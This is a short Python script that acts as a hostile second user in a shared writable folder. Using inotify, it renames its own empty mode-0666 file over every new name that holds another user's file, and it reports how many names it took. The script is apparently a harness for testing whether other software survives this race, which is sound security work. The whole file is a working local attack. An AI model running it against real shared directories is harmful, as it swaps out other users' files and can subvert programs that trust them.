#!/usr/bin/env python3
"""A second user's attack on a folder he can write: every name that appears in FOLDER
(created, or renamed into it) and holding someone else's file has a file of his own renamed
over it at once, found with inotify. His files are empty and mode 0666, named .mine-N until used.

Usage: rename-over.py FOLDER SECONDS
Prints "watching" once the watch is set, then attacks until standard input closes or
SECONDS pass; prints how many names it took over.
"""
import ctypes
import os
import select
import struct
import sys
import time

IN_CREATE = 0x100
IN_MOVED_TO = 0x80
libc = ctypes.CDLL(None, use_errno=True)


def main():
    folder, seconds = sys.argv[1], float(sys.argv[2])
    fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    if fd < 0 or libc.inotify_add_watch(fd, folder.encode(), IN_CREATE | IN_MOVED_TO) < 0:
        print("inotify failed", ctypes.get_errno(), flush=True)
        return 1
    os.umask(0)
    count = 0
    taken = 0
    names = set()

    def fresh():
        nonlocal count
        count += 1
        name = os.path.join(folder, ".mine-%d" % count)
        os.close(os.open(name, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666))
        return name

    mine = fresh()
    print("watching", flush=True)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fd, sys.stdin], [], [], 0.5)
        if sys.stdin in ready and not sys.stdin.buffer.read1(4096):
            break
        if fd not in ready:
            continue
        data = os.read(fd, 65536)
        offset = 0
        while offset < len(data):
            _, mask, _, length = struct.unpack_from("iIII", data, offset)
            name = data[offset + 16 : offset + 16 + length].rstrip(b"\0")
            offset += 16 + length
            if name.startswith(b".mine-") or name in names or not mask & (IN_CREATE | IN_MOVED_TO):
                continue
            target = os.path.join(folder.encode(), name)
            try:
                if os.lstat(target).st_uid == os.getuid():
                    continue  # his own file, moved here by someone else
                os.rename(mine, target)
                taken += 1
                names.add(name)
                mine = fresh()
            except OSError:
                pass
    print("took", taken, flush=True)
    return 0


sys.exit(main())
